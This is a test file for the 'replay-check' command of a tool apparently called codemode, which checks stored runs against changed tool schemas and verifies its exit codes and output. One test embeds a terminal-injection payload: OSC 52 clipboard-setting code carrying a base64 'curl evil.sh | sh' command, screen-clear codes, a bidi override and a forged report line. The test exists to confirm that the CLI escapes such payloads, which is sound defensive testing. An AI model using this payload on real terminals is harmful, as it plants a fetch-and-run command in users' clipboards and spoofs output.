/**
 * `codemode replay-check` as an operator (or CI) runs it after a change to the tools: runs paused
 * in a real SQLite file by the application as it was, checked by the `codemode` bin (a child
 * process of the built package) with the config as it is now (test/cli-fixtures/
 * changed-schema.config.ts: the same store, `tickets.create` now requires a `queue`). Needs
 * `npm run build` first.
 */
import { randomUUID } from "node:crypto";
import { join } from "node:path";
import type { CodemodeRuntime } from "@codemode/core";
import type { ReplayCheckReport } from "@codemode/core/operations";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CONFIG, codemode, FIXTURES, problemLine, scratchDirectory, TIMEOUT } from "./cli-fixtures/run-cli.ts";
import { FREE_PROGRAM, GATED_PROGRAM, openTicketsRuntime } from "./cli-fixtures/tickets.ts";

const CHANGED = join(FIXTURES, "changed-schema.config.ts");
const directory = scratchDirectory();

/** A title that, printed raw, would set the clipboard (OSC 52), clear the screen (CSI 2J, also as C1) and reverse text. */
const HOSTILE_TITLE = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u009b2J refund \u202e1234\nDIVERGES  forged";
const HOSTILE_PROGRAM = `async () => {
  await tickets.list({ status: "open" });
  return (await tickets.create({ title: ${JSON.stringify(HOSTILE_TITLE)}, priority: "high" })).id;
}`;

/** The characters of HOSTILE_TITLE that act on a terminal, as they appear raw in `text`. */
const rawControls = (text: string) => ["\u0007", "\u001b", "\u009b", "\u202e"].filter((code) => text.includes(code));

/** A store with runs made by the tickets application as it was before the change. */
function storyStore(label: string) {
  const store = `sqlite:${join(directory, `${label}.sqlite`)}`;
  const name = `replay-check-${label}`;
  const opened = openTicketsRuntime(store, name);
  const check = (config: string, ...args: string[]) =>
    codemode(["--config", config, "replay-check", ...args], { CODEMODE_TEST_STORE: store, CODEMODE_TEST_NAME: name });
  const run = async (code: string, status: "paused" | "completed") => {
    const outcome = await opened.runtime.execute({ code });
    expect(outcome.status).toBe(status);
    return outcome.executionId;
  };
  return { runtime: opened.runtime as CodemodeRuntime, close: opened.close, check, run };
}

describe("codemode replay-check: paused runs checked against the tools as they are now", () => {
  const story = storyStore("paused");
  let paused: string;
  let completed: string;

  beforeAll(async () => {
    paused = await story.run(GATED_PROGRAM, "paused");
    completed = await story.run(FREE_PROGRAM, "completed");
  });
  afterAll(() => story.close());

  it(
    "with the tools unchanged the paused run replays up to its pending call: ok, exit 0, as a line and as JSON",
    async () => {
      const human = await story.check(CONFIG);
      expect(human.code, human.stderr).toBe(0);
      expect(human.stdout).toBe(
        `ok        ${paused}  paused  replayed 1 call up to its next unrecorded call\n1 checked, 0 diverge\n`,
      );
      const json = await story.check(CONFIG, "--json");
      expect(json.code).toBe(0);
      expect(JSON.parse(json.stdout)).toEqual({
        ok: true,
        results: [{ executionId: paused, status: "paused", ok: true, replayed: 1, stoppedAt: "frontier" }],
      });
      // --status takes a list (comma-separated or repeated), like `executions`; --since a duration.
      const both = JSON.parse(
        (await story.check(CONFIG, "--status", "paused,completed", "--since", "1h", "--json")).stdout,
      );
      expect(both.results.map((result: { executionId: string; stoppedAt: string }) => result.executionId)).toEqual([
        completed,
        paused,
      ]);
      expect(both.results[0]).toMatchObject({ ok: true, stoppedAt: "end" });
      // Nothing created within the last second: none checked is not a failure.
      const none = await story.check(CONFIG, "--since", "0s");
      expect(none.code).toBe(0);
      expect(none.stdout).toBe("0 checked, 0 diverge\n");
    },
    TIMEOUT,
  );

  it(
    "after tickets.create's schema changed the paused run diverges: exit 8 with its id, seq 1 and the schema's error; --json has the same data",
    async () => {
      const human = await story.check(CHANGED);
      expect(human.code, human.stderr).toBe(8);
      expect(human.stdout).toBe(
        [
          `DIVERGES  ${paused}  paused  seq 1 schema: recorded tickets.create`,
          "    the tool's schema now refuses the recorded arguments",
          '    recorded arguments: {"title":"Refund alice@example.com","priority":"high"}',
          "    schema: Invalid arguments for tickets.create:",
          "            - args.queue: missing required property",
          "1 checked, 1 diverges",
          "",
        ].join("\n"),
      );
      expect(human.stderr).toContain("create_order_v2");

      const json = await story.check(CHANGED, "--json");
      expect(json.code).toBe(8);
      const report = JSON.parse(json.stdout) as ReplayCheckReport;
      expect(report).toMatchObject({
        ok: false,
        results: [
          {
            executionId: paused,
            status: "paused",
            ok: false,
            stoppedAt: "divergence",
            divergence: {
              seq: 1,
              kind: "schema",
              recorded: {
                connector: "tickets",
                method: "create",
                args: { title: "Refund alice@example.com", priority: "high" },
              },
              schemaError: "Invalid arguments for tickets.create:\n- args.queue: missing required property",
            },
          },
        ],
      });

      // One run by id: the paused one diverges, the completed one never called create and still replays.
      expect((await story.check(CHANGED, "--id", paused)).code).toBe(8);
      const untouched = await story.check(CHANGED, "--id", completed);
      expect(untouched.code, untouched.stderr).toBe(0);
      expect(untouched.stdout).toMatch(
        new RegExp(`^ok +${completed}  completed  replayed 1 call to the program's end$`, "m"),
      );
      // The check ran nothing and changed nothing.
      expect((await story.runtime.execution(paused))?.status).toBe("paused");
      expect((await story.runtime.execution(paused))?.log.map((entry) => entry.state)).toEqual(["applied", "pending"]);
    },
    TIMEOUT,
  );

  it(
    "an --id the store does not have exits 3; a bad --since, --status or --limit, or --id with a query flag, exits 2",
    async () => {
      const unknown = randomUUID();
      const missing = await story.check(CONFIG, "--id", unknown);
      expect(missing.code).toBe(3);
      expect(problemLine(missing)).toBe(
        `codemode: no execution ${unknown} in the store; list them with: codemode executions`,
      );
      expect(missing.stdout).toBe("");
      const missingJson = await story.check(CONFIG, "--id", unknown, "--json");
      expect(JSON.parse(missingJson.stdout)).toMatchObject({ error: { exitCode: 3, code: "NOT_FOUND" } });

      const since = await story.check(CONFIG, "--since", "7x");
      expect(since.code).toBe(2);
      expect(problemLine(since)).toBe(
        'codemode: --since needs a duration such as 90s, 30m, 24h or 7d (a whole number, then s, m, h or d), not "7x"',
      );
      const usage: Array<[string[], string]> = [
        [["--since", "30"], "--since needs a duration"],
        [["--status", "sleeping"], "unknown status sleeping"],
        [["--limit", "1001"], "--limit needs a whole number from 1 to 1000"],
        [["--id", paused, "--status", "paused"], "--id checks one execution; leave out --status"],
      ];
      for (const [args, line] of usage) {
        const result = await story.check(CONFIG, ...args);
        expect(result.code, args.join(" ")).toBe(2);
        expect(problemLine(result)).toContain(line);
      }
    },
    TIMEOUT,
  );

  it(
    "a store that is down: one line saying so, exit 7",
    async () => {
      const down = await codemode(["--config", CONFIG, "replay-check", "--json"], {
        CODEMODE_TEST_STORE: "redis://127.0.0.1:1",
        CODEMODE_TEST_NAME: "down",
        CODEMODE_TEST_CONNECT_MS: "300",
      });
      expect(down.code).toBe(7);
      expect(problemLine(down)).toMatch(/^codemode: the store is unreachable \(.+\); check that it is running/);
      expect(JSON.parse(down.stdout)).toMatchObject({ error: { exitCode: 7, code: "STORAGE_ERROR" } });
      const help = await codemode(["--help"]);
      expect(help.stdout).toContain("8  replay-check: a stored run diverges from the current tools");
      expect(help.stdout).toContain("replay-check [options]");
    },
    TIMEOUT,
  );
});

describe("codemode replay-check: what the store holds is shown, not obeyed", () => {
  const story = storyStore("hostile");
  afterAll(() => story.close());

  it(
    "a recorded argument with terminal escapes (OSC 52, CSI 2J, C1, bidi, a newline) is printed escaped on one line, never raw",
    async () => {
      const executionId = await story.run(HOSTILE_PROGRAM, "paused");
      const human = await story.check(CHANGED, "--id", executionId);
      expect(human.code, human.stderr).toBe(8);
      expect(rawControls(human.stdout)).toEqual([]);
      expect(human.stdout).toContain(
        '    recorded arguments: {"title":"\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007\\u001b[2J\\u{9b}2J refund \\u{202e}1234\\nDIVERGES  forged","priority":"high"}\n',
      );
      // The stored newline forged no line of the report.
      expect(human.stdout.split("\n").filter((line) => line.startsWith("DIVERGES"))).toHaveLength(1);

      const json = await story.check(CHANGED, "--id", executionId, "--json");
      expect(rawControls(json.stdout)).toEqual([]);
      const report = JSON.parse(json.stdout) as ReplayCheckReport;
      // Escaped on screen, the same value in the data.
      expect(report.results[0]?.divergence?.recorded?.args).toEqual({ title: HOSTILE_TITLE, priority: "high" });
    },
    TIMEOUT,
  );
});
